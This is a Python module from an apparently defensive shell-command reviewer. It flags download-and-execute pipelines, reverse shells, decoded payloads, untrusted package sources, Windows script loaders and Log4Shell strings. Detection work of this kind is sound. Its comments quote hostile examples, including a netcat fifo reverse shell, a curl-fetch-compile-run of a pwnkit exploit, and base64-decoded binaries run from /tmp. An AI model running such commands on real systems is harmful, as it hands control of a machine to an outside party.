"""Remote code execution: code fetched from the network and run without anyone reading it."""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator

from forethought.review.base import Prediction
from forethought.review.installers import Installer, official
from forethought.review.shell.catalogue import operands as catalogued_operands
from forethought.review.shell.decode import run_stages
from forethought.review.shell.interpreters import SHELLS, inline_code, language_of, shell_input
from forethought.review.shell.model import ShellAnalysis, SimpleCommand
from forethought.review.shell.predict import (
    DEFENCE_EVASION,
    REMOTE_CODE_EXECUTION,
    REMOTE_SHELL,
    UNKNOWN_CODE,
    harm,
)
from forethought.review.shell.rules.common import (
    has,
    option_values,
    short_flags,
)
from forethought.review.shell.rules.network import (
    FETCHERS,
    code_origin,
    executes_stdin,
    inner_commands,
    interactive_shell,
    is_fetcher,
    is_raw_network,
)
from forethought.review.shell.templates import lists_names, template_text
from forethought.review.shell.writes import operands

Rule = Iterator[Prediction]


def _pipeline_execution(analysis: ShellAnalysis) -> Rule:
    for cmd in analysis.commands:
        if cmd.pipeline < 0 or not (executes_stdin(cmd) or interactive_shell(cmd)):
            continue
        # a shell anywhere in a pipeline with a raw network stream: with a fifo closing the
        # loop (mkfifo f; nc h p < f | sh > f) the stream's far end drives the shell
        net = next((c for c in analysis.pipeline(cmd) if c is not cmd and is_raw_network(c)), None)
        if net is not None:
            yield harm(
                cmd,
                REMOTE_SHELL,
                f"connects a shell ({cmd.name}) to a network stream "
                f"({net.name}): whoever is at the other end runs commands here",
                "critical",
                0.9,
                False,
            )
            continue
        if cmd.stage == 0 or not executes_stdin(cmd):
            continue
        if analysis.piped_file(cmd) is not None:
            continue  # `cat F | sh` is `sh F`: judged as running that file (nested, session)
        upstream = analysis.upstream(cmd)
        fetcher = next((c for c in upstream if is_fetcher(c)), None)
        if fetcher is not None:
            yield _runs_downloaded_code(cmd, fetcher)
            continue
        output = None
        if len({c.stage for c in upstream}) == len(upstream) and not any(
            w.dynamic for c in upstream for w in c.words
        ):
            output = run_stages(
                [(c.argv, c.stdin) for c in sorted(upstream, key=lambda c: c.stage)]
            )
        if (
            output is None
            and template_text(analysis, cmd) is not None
            and lists_names(analysis, cmd)
        ):
            # the template is judged as the commands (review.shell.templates); what is left
            # unknown is the file names filling its operands (other data could be shell text:
            # then the commands stay unknown below, the template judged as well)
            maker = max(upstream, key=lambda c: c.stage)
            yield harm(
                cmd,
                UNKNOWN_CODE,
                f"runs commands `{maker.name}` builds from a template; their operands come "
                "from data the reviewer cannot see",
                "low",
                0.5,
                True,
            )
        elif output is None:
            feeder = max(upstream, key=lambda c: c.stage, default=None)
            produced = f"`{feeder.text}`" if feeder is not None else "the pipeline"
            yield harm(
                cmd,
                UNKNOWN_CODE,
                f"runs commands produced at run time by {produced}; the reviewer cannot see them",
                "moderate",
                0.5,
                True,
            )
        elif output.decoded:
            yield harm(
                cmd,
                DEFENCE_EVASION,
                f"runs a payload hidden by encoding ({output.how}) instead of plain commands",
                "moderate",
                0.6,
                True,
            )


def _substituted_execution(analysis: ShellAnalysis) -> Rule:
    """``bash <(curl ..)``, ``sh -c "$(curl ..)"``, ``python -c "$(wget -O- ..)"``, eval."""
    for cmd in analysis.commands:
        language = language_of(cmd.name)
        if language is None and cmd.name not in ("source", ".", "eval"):
            continue
        if not any(w.substitutions for w in cmd.words[1:]):
            if language not in (None, "shell", "awk"):
                code = inline_code(cmd.name, cmd.words[1:])
                code_words = [
                    w for w in cmd.words[1:] if code and code.code and w.value in code.code
                ]
                if any(w.dynamic and w.value.strip().startswith("$") for w in code_words):
                    yield harm(
                        cmd,
                        UNKNOWN_CODE,
                        f"runs {cmd.name} code held in a variable the reviewer cannot see",
                        "moderate",
                        0.5,
                        True,
                    )
            continue
        inner = inner_commands(analysis, cmd)
        fetcher = next((c for c in inner if is_fetcher(c)), None)
        if fetcher is not None:
            yield _runs_downloaded_code(cmd, fetcher)
        elif language not in (None, "shell", "awk") and cmd.name not in ("eval",):
            code = inline_code(cmd.name, cmd.words[1:])
            if (
                code is not None
                and code.code is not None
                and any(w.substitutions for w in cmd.words[1:] if w.value in code.code)
            ):
                yield harm(
                    cmd,
                    UNKNOWN_CODE,
                    f"runs {cmd.name} code produced at run time; the reviewer cannot see it",
                    "moderate",
                    0.5,
                    True,
                )


def _download_targets(cmd: SimpleCommand) -> list[str]:
    names: list[str] = []
    if cmd.name not in FETCHERS:
        return names
    with_value = "oPdHXAeuUTFxrwbcEKm" if cmd.name == "curl" else "OPoaeUtTwlAR"
    urls = [a for a in operands(cmd, with_value) if "://" in a or "." in a]
    outputs = (
        [*option_values(cmd, "--output"), *_clustered(cmd.args, "o", with_value)]
        if cmd.name == "curl"
        else [*option_values(cmd, "--output-document"), *_clustered(cmd.args, "O", with_value)]
    )
    names.extend(o for o in outputs if o != "-")
    remote_name = cmd.name == "curl" and ("O" in short_flags(cmd) or has(cmd, "--remote-name"))
    default_name = cmd.name in ("wget", "aria2c", "axel", "fetch") and not outputs
    if remote_name or default_name:
        for url in urls:
            base = posixpath.basename(url.split("?", 1)[0].rstrip("/"))
            if base:
                names.append(base)
    for op, target in cmd.redirects:
        if op.lstrip("0123456789") in (">", ">>"):
            names.append(target)
    return names


def _clustered(args: list[str], letter: str, with_value: str) -> list[str]:
    """Values of the short option ``letter``, alone or at the end of a cluster of flags
    (``-o F``, ``-oF``, ``-so F``, ``-sSLoF``)."""
    values: list[str] = []
    for i, arg in enumerate(args):
        if arg == "--":
            break
        if not arg.startswith("-") or arg.startswith("--") or len(arg) < 2:
            continue
        for pos, char in enumerate(arg[1:], 1):
            if char in with_value:
                if char == letter:
                    rest = arg[pos + 1 :]
                    if rest:
                        values.append(rest)
                    elif i + 1 < len(args):
                        values.append(args[i + 1])
                break
    return values


_EXECUTE_MODES = re.compile(
    r"^(?:[ugoa]*\+[rwX]*x|[0-7]*[1357][0-7]{0,2}|[0-7]?[0-7][1357][0-7]|"
    r"[0-7]?[0-7]{2}[1357])$"
)


_COMPILERS = frozenset({"gcc", "cc", "clang", "g++", "c++", "tcc", "musl-gcc"})


def _compiled_from(cmd: SimpleCommand, downloaded: dict[str, SimpleCommand]) -> None:
    """A compiler building a downloaded source: what it makes is downloaded code as well
    (``curl -sO http://x/pwnkit.c && gcc pwnkit.c -o pk && ./pk``)."""
    if cmd.name not in _COMPILERS:
        return
    sources = [a for a in operands(cmd, "oIlLDUx") if posixpath.basename(a) in downloaded]
    if sources:
        out = (_clustered(cmd.args, "o", "oIlLDUx") or ["a.out"])[-1]
        downloaded[posixpath.basename(out)] = downloaded[posixpath.basename(sources[0])]


def _decoded_files(cmd: SimpleCommand) -> list[str]:
    """Files a decoder writes: ``echo f0VMRg... | base64 -d > /tmp/k``, ``xxd -r -p h > k``."""
    decodes = (
        (cmd.name in ("base64", "base32", "basenc") and {"-d", "--decode", "-D"} & set(cmd.args))
        or (cmd.name == "xxd" and any(a.startswith("-r") for a in cmd.args))
        or (cmd.name == "openssl" and "-d" in cmd.args)
    )
    if not decodes:
        return []
    return [t for op, t in cmd.redirects if op.lstrip("1") in (">", ">|")] + option_values(
        cmd, "-o", "--output", "-out"
    )


def _decoded_then_executed(analysis: ShellAnalysis) -> Rule:
    decoded: dict[str, SimpleCommand] = {}
    for cmd in analysis.commands:
        for path in _decoded_files(cmd):
            decoded[posixpath.basename(path)] = cmd
        target = _executed_file(cmd) if decoded else None
        if target is not None and posixpath.basename(target) in decoded:
            yield harm(
                cmd,
                DEFENCE_EVASION,
                f"runs {target}, a program decoded from an encoded payload "
                "(code nobody can read before it runs)",
                "high",
                0.85,
                False,
                f"{decoded[posixpath.basename(target)].text} … {cmd.text}",
            )


def _download_then_execute(analysis: ShellAnalysis) -> Rule:
    downloaded: dict[str, SimpleCommand] = {}
    for cmd in analysis.commands:
        for name in _download_targets(cmd):
            downloaded[posixpath.basename(name)] = cmd
        if not downloaded:
            continue
        _compiled_from(cmd, downloaded)
        target = _executed_file(cmd)
        if target is not None and posixpath.basename(target) in downloaded:
            fetcher = downloaded[posixpath.basename(target)]
            installer = _official_download(fetcher)
            if installer is not None:
                as_root = any(w in ("sudo", "doas", "su", "pkexec") for w in cmd.wrappers)
                yield harm(
                    cmd,
                    REMOTE_CODE_EXECUTION,
                    f"runs {target}, the official install script of {installer.tool} just "
                    f"downloaded by {fetcher.name}{' as root' if as_root else ''}, without "
                    "anyone reading it first",
                    "critical" if as_root else "high",
                    0.6,
                    True,
                    f"{fetcher.text} … {cmd.text}",
                )
                continue
            yield harm(
                cmd,
                REMOTE_CODE_EXECUTION,
                f"runs {target}, just downloaded by "
                f"{fetcher.name}, without anyone reading it first",
                "high",
                0.85,
                False,
            )
        elif cmd.name in ("chmod", "install"):
            # (install(1) copies with mode 0755 unless -m says otherwise: its sources are made
            # executable where the system looks for programs)
            ops = ["+x", *_installed_sources(cmd)] if cmd.name == "install" else operands(cmd)
            made = [o for o in ops[1:] if posixpath.basename(o) in downloaded]
            if (
                len(ops) >= 2
                and _EXECUTE_MODES.match(ops[0])
                and made
                # (an official install script is judged where it runs)
                and not all(_official_download(downloaded[posixpath.basename(o)]) for o in made)
            ):
                fetchers = [downloaded[posixpath.basename(o)] for o in made]
                if all(_named_https(f) for f in fetchers):
                    # a release binary from a named https host (the kubectl install): running
                    # it later is the point; running it here is judged where it runs
                    yield harm(
                        cmd,
                        REMOTE_CODE_EXECUTION,
                        "makes a program just downloaded over https executable; what it runs "
                        "nobody has read",
                        "low",
                        0.5,
                        True,
                    )
                else:
                    yield harm(
                        cmd,
                        REMOTE_CODE_EXECUTION,
                        "makes a just-downloaded file executable, to run code nobody has read",
                        "high",
                        0.6,
                        False,
                        # (where it came from: a task that names the program or where it goes
                        # does not vouch for the download)
                        f"{fetchers[0].text} … {cmd.text}",
                    )


def _installed_sources(cmd: SimpleCommand) -> list[str]:
    """The files `install` copies (not the destination, not a directory made with -d), where
    its mode leaves them executable (the operands as the catalogue reads them: install's -m, -o,
    -g, -t and -S take values)."""
    if "-d" in cmd.args or "--directory" in cmd.args:
        return []
    if any(not _EXECUTE_MODES.match(m) for m in option_values(cmd, "-m", "--mode")):
        return []  # (-m 0644: copied, not made a program)
    ops = catalogued_operands(cmd)
    target_dir = "-t" in cmd.args or any(a.startswith("--target-directory") for a in cmd.args)
    return ops if target_dir else ops[:-1]


_IP_HOST = re.compile(r"^https://(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-fA-F:]+\])(?::\d+)?(?:/|$)")


def _named_https(fetcher: SimpleCommand) -> bool:
    """Whether every address ``fetcher`` downloads from is https on a host name (no IP)."""
    urls = [a for a in fetcher.args if "://" in a]
    return bool(urls) and all(u.startswith("https://") and not _IP_HOST.match(u) for u in urls)


def _official_download(fetcher: SimpleCommand) -> Installer | None:
    url = next((a for a in fetcher.args if a.startswith("https://")), "")
    return official(url) if url else None


_INSTALLERS = frozenset(
    {
        "dpkg",
        "rpm",
        "installer",
        "apt",
        "apt-get",
        "yum",
        "dnf",
        "zypper",
        "pip",
        "pip3",
        "npm",
        "gem",
        "msiexec",
        "pkg",
    }
)


def _executed_file(cmd: SimpleCommand) -> str | None:
    name = cmd.name
    if "/" in name:
        return name
    if name in SHELLS:
        source = shell_input(cmd.words[1:])
        return source.script.value if source.kind == "file" and source.script else None
    if name in ("source", "."):
        return cmd.args[0] if cmd.args else None
    if name in _INSTALLERS:
        return next(
            (
                a
                for a in cmd.args
                if a.endswith((".deb", ".rpm", ".pkg", ".whl", ".tgz", ".msi", ".gem", ".apk"))
            ),
            None,
        )
    code = inline_code(name, cmd.words[1:])
    if code is not None and code.script:
        return code.script
    return None


# -- packages from outside the registries -------------------------------------------------

# Per installer, the subcommands that fetch and install, and the options naming where packages
# come from (an index replacing the registry, or one consulted beside it).
_PIP_VERBS = frozenset({"install", "download", "wheel", "add", "sync"})
_NODE_VERBS = frozenset({"install", "i", "add", "ci", "update", "exec", "x", "dlx"})
_INDEX_OPTIONS = (
    "--index-url",
    "-i",
    "--extra-index-url",
    "--find-links",
    "-f",
    "--index",
    "--default-index",
    "--registry",
    "--source",
    "-s",
    "--git",
    "--spec",
    "--from",
)
_PIP_NAME = re.compile(r"^pip\d*(?:\.\d+)*$")
_ARCHIVE_SUFFIX = re.compile(r"(?:\.tar\.gz|\.tgz|\.tar\.bz2|\.zip|\.whl|\.gem|\.git)$")


def installer_args(cmd: SimpleCommand) -> list[str] | None:
    """The arguments after an install verb (``pip install``, ``python -m pip install``, ``uv
    pip install``, ``npm i``, ``gem install``, ``cargo install``, ``pipx run``), or None."""
    name, args = cmd.name, cmd.args
    if language_of(name) == "python" and args[:2] == ["-m", "pip"]:
        name, args = "pip", args[2:]
    elif name == "uv" and args[:1] in (["pip"], ["tool"]):
        name, args = "pip", args[1:]
    elif name in ("uvx", "pipx", "npx", "pnpx", "bunx"):
        return args
    verbs = (
        _PIP_VERBS
        if _PIP_NAME.match(name) or name in ("uv", "poetry", "pipenv")
        else _NODE_VERBS
        if name in ("npm", "pnpm", "yarn", "bun")
        else {"install"}
        if name in ("gem", "cargo")
        else None
    )
    if verbs is None:
        return None
    verb = next((i for i, a in enumerate(args) if not a.startswith("-")), None)
    if verb is None or args[verb] not in verbs:
        return None
    return args[verb + 1 :]


def _package_sources(args: list[str]) -> list[tuple[str, str]]:
    """(where, how): URLs given as packages (``pkg @ URL`` too) and as indexes."""
    found: list[tuple[str, str]] = []
    for i, arg in enumerate(args):
        option, _, attached = arg.partition("=")
        if option in _INDEX_OPTIONS:
            value = attached or (args[i + 1] if i + 1 < len(args) else "")
            found.append((value, "index" if option not in ("--git", "--spec", "--from") else ""))
        elif not arg.startswith("-"):
            found.append((arg.rsplit("@ ", 1)[-1].strip(), ""))
    return found


def _package_name(where: str) -> str:
    base = posixpath.basename(where.split("#", 1)[0].split("?", 1)[0].rstrip("/"))
    base = _ARCHIVE_SUFFIX.sub("", base)
    return re.split(r"-\d", base, maxsplit=1)[0].replace("-", "_").lower()


def _runs_package(analysis: ShellAnalysis, after: SimpleCommand, names: set[str]) -> bool:
    """Does a later command run one of ``names`` (``python -m pkg``, ``npx pkg``, ``pkg``)?"""
    for cmd in analysis.commands[after.index + 1 :]:
        run = cmd.name
        if language_of(run) == "python" and cmd.args[:1] == ["-m"] and len(cmd.args) > 1:
            run = cmd.args[1]
        elif run in ("npx", "pnpx", "bunx", "uvx", "pipx") and cmd.args:
            run = next((a for a in cmd.args if not a.startswith("-") and a != "run"), "")
        if run.replace("-", "_").lower() in names:
            return True
    return False


def _package_install(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    args = installer_args(cmd)
    if not args:
        return
    unverified = frozenset(option_values(cmd, "--trusted-host"))
    names = {
        _package_name(a) for a in args if not a.startswith("-") and not _ARCHIVE_SUFFIX.search(a)
    }
    for where, how in _package_sources(args):
        origin = code_origin(where, unverified)
        if origin is None or origin.trusted:
            continue
        names.add(_package_name(where))
        then_runs = _runs_package(analysis, cmd, names - {""})
        what = f"packages from the index {where}" if how else f"the package {where}"
        if origin.raw_ip or origin.plain:
            why = (
                f"{origin.host} is a raw IP address nobody vouches for"
                if origin.raw_ip
                else "over an unverified connection anyone on the path can tamper with"
            )
            severity, probability = "high", 0.9 if then_runs else 0.8
        else:
            why = f"{origin.host} is not on the policy's allowed hosts"
            severity, probability = ("high", 0.6) if then_runs else ("moderate", 0.6)
        yield harm(
            cmd,
            REMOTE_CODE_EXECUTION,
            f"installs {what}{' and then runs it' if then_runs else ''}: its install scripts "
            f"run code nobody has reviewed, and {why}",
            severity,  # type: ignore[arg-type]
            probability,
            False,
        )
        return


# Windows programs that run script from a URL (mshta, regsvr32 /i:URL scrobj.dll, rundll32
# javascript:) or download files for other programs to run (certutil -urlcache, bitsadmin).
_SCRIPT_URL = re.compile(r"(?:https?|ftp)://|\b(?:java|vb)script:", re.I)


def _windows_loader(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
    name = cmd.name.lower().removesuffix(".exe")
    url = next((a for a in cmd.args if _SCRIPT_URL.search(a)), None)
    if url is None:
        return
    if name in ("mshta", "regsvr32", "rundll32"):
        yield harm(
            cmd,
            REMOTE_CODE_EXECUTION,
            f"{name} runs script from {url} without anyone reading it first",
            "high",
            0.9,
            False,
        )
    elif name == "bitsadmin" or any(a.lower().lstrip("-/") == "urlcache" for a in cmd.args):
        yield harm(
            cmd,
            REMOTE_CODE_EXECUTION,
            f"downloads {url} with {name}, a system tool often used to fetch code to run",
            "moderate",
            0.6,
            True,
        )


# -- remote shells -------------------------------------------------------------------------


# An exploit string that makes a vulnerable Java logger load code from the named server
# (Log4Shell, CVE-2021-44228), in any spelling its lookups allow.
_JNDI = re.compile(r"\$\{(?:[^}]*:)?j\S{0,20}n\S{0,20}d\S{0,20}i\S{0,12}:", re.IGNORECASE)


def _jndi(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
    hit = next((a for a in cmd.args if "${" in a and _JNDI.search(a)), None)
    if hit is not None:
        yield harm(
            cmd,
            REMOTE_CODE_EXECUTION,
            "sends a Log4Shell lookup (${jndi:...}): a vulnerable server that logs it loads and "
            "runs code from the named host",
            "high",
            0.85,
            False,
            hit[:200],
        )


# Compilers that take their source on standard input (`-`): gcc(1) "-x c -", clang, tcc.
_COMPILERS = frozenset({"gcc", "cc", "g++", "c++", "clang", "clang++", "tcc", "rustc"})


def _compiled_download(analysis: ShellAnalysis) -> Rule:
    """Source downloaded and piped into a compiler (`curl URL | gcc -x c -o /tmp/.x -`): the
    program built from it is code nobody has read, and it is run where a later command runs
    what was built (or at once: `tcc -run -`)."""
    for cmd in analysis.commands:
        base = cmd.name.rsplit("/", 1)[-1]
        if (
            base not in _COMPILERS
            or cmd.stage == 0
            or "-" not in cmd.args
            or cmd.stdin is not None
            or analysis.piped_file(cmd) is not None
        ):
            continue
        fetcher = next((c for c in analysis.upstream(cmd) if is_fetcher(c)), None)
        if fetcher is None:
            continue
        built = option_values(cmd, "-o")
        runs = "-run" in cmd.args or any(
            c.name in built or (c.name.startswith("./") and c.name[2:] in built)
            for c in analysis.commands[cmd.index + 1 :]
        )
        yield harm(
            cmd,
            REMOTE_CODE_EXECUTION,
            f"compiles code downloaded by {fetcher.name}"
            f"{' and runs the program' if runs else ''}: code nobody has read",
            "high",
            0.85 if runs else 0.6,
            False,
            f"{fetcher.text} | {cmd.text}",
        )


# Archives, by the endings an unpacker strips to name what it unpacks (x.tar.gz unpacks to x/,
# as release tarballs do), and the unpackers with the options that name where they unpack.
_ARCHIVE = re.compile(r"\.(?:tar\.gz|tgz|tar\.xz|txz|tar\.bz2|tbz2?|tar\.zst|tar|zip|7z)$")
_UNPACKERS = {"tar": ("-C", "--directory"), "unzip": ("-d",), "7z": ("-o",), "bsdtar": ("-C",)}
_BUILDERS = frozenset({"make", "gmake", "cmake", "ninja"})


def _unverified_fetch(cmd: SimpleCommand) -> str | None:
    """Where a fetch gets its file from, where nothing verifies who answers: plain http, or a
    bare IP address; None for anything else."""
    for url in (a for a in cmd.args if "://" in a):
        scheme, _, rest = url.partition("://")
        host = rest.split("/", 1)[0].rsplit("@", 1)[-1].rsplit(":", 1)[0].strip("[]")
        if scheme.lower() == "http" or re.fullmatch(r"[\d.]+|[0-9a-fA-F:]+", host):
            return url
    return None


def _unpacked_then_run(analysis: ShellAnalysis) -> Rule:
    """An archive fetched over plain http or from a bare address, unpacked, then its contents
    built or run (`curl -sO http://203.0.113.19/x.tar.gz && tar xzf x.tar.gz && make -C x &&
    ./x/x`): code from a source nobody verified, run without anyone reading it first. (From
    https, release tarballs and clones are built this way every day: not this rule's.)"""
    fetched: dict[str, str] = {}  # archive file name -> its URL
    unpacked: dict[str, str] = {}  # directory its contents are in -> the URL
    for cmd in analysis.commands:
        url = _unverified_fetch(cmd) if cmd.name in FETCHERS else None
        if url is not None:
            for name in _download_targets(cmd):
                fetched[posixpath.basename(name)] = url
        if not fetched and not unpacked:
            continue
        if cmd.name in _UNPACKERS:
            for a in cmd.args:
                if posixpath.basename(a) in fetched:
                    source = fetched[posixpath.basename(a)]
                    into = option_values(cmd, *_UNPACKERS[cmd.name])
                    stem = _ARCHIVE.sub("", posixpath.basename(a))
                    for where in (*into, stem):
                        unpacked[posixpath.normpath(where)] = source
            continue
        if not unpacked:
            continue
        ran = _executed_file(cmd)
        places = [posixpath.normpath(ran)] if ran else []
        if cmd.name in _BUILDERS:
            places += [posixpath.normpath(d) for d in option_values(cmd, "-C", "--directory")]
            places.append(posixpath.normpath(cmd.cwd or "."))
        for place in places:
            root = next(
                (d for d in unpacked if place == d or place.startswith(d.rstrip("/") + "/")), None
            )
            if root is None and cmd.cwd:
                base = posixpath.basename(posixpath.normpath(cmd.cwd))
                root = base if base in unpacked else None
            if root is not None:
                yield harm(
                    cmd,
                    REMOTE_CODE_EXECUTION,
                    f"{'builds' if cmd.name in _BUILDERS else 'runs'} code unpacked from "
                    f"{unpacked[root]}, fetched where nothing verifies who answers, without "
                    "anyone reading it first",
                    "high",
                    0.85,
                    False,
                )
                return


GENERIC = [_jndi]
SCRIPT = [
    _compiled_download,
    _pipeline_execution,
    _substituted_execution,
    _download_then_execute,
    _decoded_then_executed,
    _unpacked_then_run,
]
_INSTALL_COMMANDS = (
    *("pip", "pip2", "pip3", *(f"pip3.{minor}" for minor in range(6, 16))),
    *("uv", "uvx", "pipx", "poetry", "pipenv", "npm", "pnpm", "yarn", "bun", "npx", "pnpx"),
    *("bunx", "gem", "cargo", "python"),
)
COMMANDS: dict[str, list] = {name: [_package_install] for name in _INSTALL_COMMANDS}
for _loader in ("mshta", "regsvr32", "rundll32", "certutil", "bitsadmin"):
    COMMANDS[_loader] = COMMANDS[f"{_loader}.exe"] = [_windows_loader]


def _runs_downloaded_code(cmd: SimpleCommand, fetcher: SimpleCommand) -> Prediction:
    """Unread code from the network, run by ``cmd``: critical when it runs as root. A tool's
    official install script (:mod:`forethought.review.installers`) is less likely to be
    hostile than a script from anywhere, and the evidence names its address, so that a task
    naming the tool puts it in scope."""
    as_root = any(w in ("sudo", "doas", "su", "pkexec") for w in cmd.wrappers)
    root = " as root" if as_root else ""
    url = next((a for a in fetcher.args if a.startswith("https://")), "")
    installer = official(url) if url else None
    if installer is not None:
        return harm(
            cmd,
            REMOTE_CODE_EXECUTION,
            f"runs the official install script of {installer.tool} ({url}){root} without "
            "anyone reading it first",
            "critical" if as_root else "high",
            0.6,
            True,  # (what it installs, the tool documents how to remove)
            f"{fetcher.text} | {cmd.text}",
        )
    return harm(
        cmd,
        REMOTE_CODE_EXECUTION,
        f"runs code downloaded by {fetcher.name} in {cmd.name}{root} without anyone reading "
        "it first",
        "critical" if as_root else "high",
        0.9,
        False,
    )
